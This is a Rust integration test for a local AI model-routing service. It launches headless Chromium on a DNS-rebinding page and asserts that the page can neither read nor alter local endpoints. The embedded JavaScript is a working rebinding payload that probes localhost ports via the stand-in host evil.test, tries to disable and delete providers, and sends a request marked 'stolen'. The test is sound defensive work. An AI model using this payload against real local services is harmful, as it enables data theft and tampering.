//! A page in a real Chromium whose host name was rebound to this machine (DNS rebinding) tries all kinds of requests.

use std::process::Stdio;

use serde_json::Value;
use signalbox_harness::{Client, Home, Stack, within};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio::process::Command;

use crate::login::has_chromium;

/// Tries every port in every way available to a page, and reports the results.
const PAGE: &str = "<script>
const tries = [
    ['GET', '/api/providers'], ['GET', '/v1/models'], ['GET', '/health'], ['GET', '/'],
    ['POST', '/api/providers/echo/disable'], ['DELETE', '/api/providers/echo'],
    ['POST', '/v1/chat/completions', JSON.stringify({model: 'echo', messages: [{role: 'user', content: 'stolen'}]})],
];
async function attempt(port, mode, [method, path, body]) {
    try {
        const answer = await fetch(`http://evil.test:${port}${path}`, {method, mode, body});
        return answer.type === 'opaque' ? 'unread' : `read ${answer.status} ${await answer.text()}`;
    } catch (error) { return 'unread'; }
}
function listen(port) {
    return new Promise(resolve => {
        const socket = new WebSocket(`ws://evil.test:${port}/socket.io/?EIO=4&transport=websocket`);
        socket.onmessage = message => resolve(`read ${message.data}`);
        socket.onclose = socket.onerror = () => resolve('unread');
    });
}
(async () => {
    const seen = [];
    for (const port of PORTS) {
        for (const mode of ['cors', 'no-cors']) for (const one of tries) seen.push(await attempt(port, mode, one));
        seen.push(await listen(port));
    }
    await fetch('/report', {method: 'POST', body: JSON.stringify(seen)});
})();
</script>";

/// Builds a command for Chromium with its own home, in which `evil.test` resolves to this machine.
fn chromium(home: &Home, args: &[&str]) -> Command {
    let mut command = Command::new("chromium");
    command
        .args(["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"])
        .arg("--host-resolver-rules=MAP evil.test 127.0.0.1")
        .arg(format!("--user-data-dir={}", home.path().join("browser").display()))
        .args(args)
        .env("HOME", home.path())
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true);
    command
}

/// Serves the page until it sends its report.
async fn report(listener: TcpListener, page: String) -> Vec<String> {
    loop {
        let (stream, _) = listener.accept().await.unwrap();
        if let Some(body) = serve(stream, &page).await {
            return serde_json::from_str(&body).unwrap();
        }
    }
}

/// Answers one request and returns its body if it is the report. Browsers also open connections that they do not use.
async fn serve(mut stream: TcpStream, page: &str) -> Option<String> {
    let (mut read, mut buffer) = (Vec::new(), [0; 4096]);
    loop {
        let text = String::from_utf8_lossy(&read).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let head = head.to_ascii_lowercase();
            let length = head.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse().ok()).unwrap_or(0);
            if body.len() >= length {
                let answer = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{page}",
                    page.len()
                );
                let _ = stream.write_all(answer.as_bytes()).await;
                return head.starts_with("post /report").then(|| body.to_owned());
            }
        }
        match stream.read(&mut buffer).await {
            Ok(count) if count > 0 => read.extend_from_slice(&buffer[..count]),
            _ => return None,
        }
    }
}

/// Returns the providers without their state in the router, which changes while the services start.
async fn stored_providers(stack: &Stack) -> Value {
    let mut list = stack.api.get("/api/providers").await.expect(200).json();
    for provider in list["providers"].as_array_mut().unwrap() {
        provider["runtime_status"].take();
    }
    list
}

#[tokio::test]
async fn fc_76_a_page_using_dns_rebinding_reads_nothing() {
    if !has_chromium() {
        return;
    }
    let stack = Stack::start().await;
    let clients: [Client; 3] = [stack.api, stack.router().await, stack.qwen().await];
    let providers = stored_providers(&stack).await;

    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://evil.test:{}/", listener.local_addr().unwrap().port());
    let page = PAGE.replace("PORTS", &format!("{:?}", clients.map(|client| client.port())));
    let home = Home::new();
    let mut browser = chromium(&home, &["--remote-debugging-port=0", &url]).stdout(Stdio::null()).spawn().unwrap();
    let seen = within("the report of the page", report(listener, page)).await;
    browser.kill().await.unwrap();
    assert_eq!(seen.len(), 3 * (2 * 7 + 1));
    assert!(seen.iter().all(|seen| seen == "unread"), "{seen:#?}");

    // Requests whose answers the page could not read had no effect either.
    assert_eq!(stored_providers(&stack).await, providers);
    let logged = stack.api.get("/api/requests").await.expect(200).json();
    assert_eq!(logged["total"], Value::from(0));

    // Also as a document of the same origin, which a page becomes if its name is rebound while it is open.
    for client in clients {
        let home = Home::new();
        let url = format!("http://evil.test:{}/health", client.port());
        let mut browser = chromium(&home, &["--dump-dom", &url]);
        let output = within("the document", browser.output()).await.unwrap();
        let document = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(document.contains("host_not_allowed") && !document.contains("\"status\""), "{document}");
    }
}
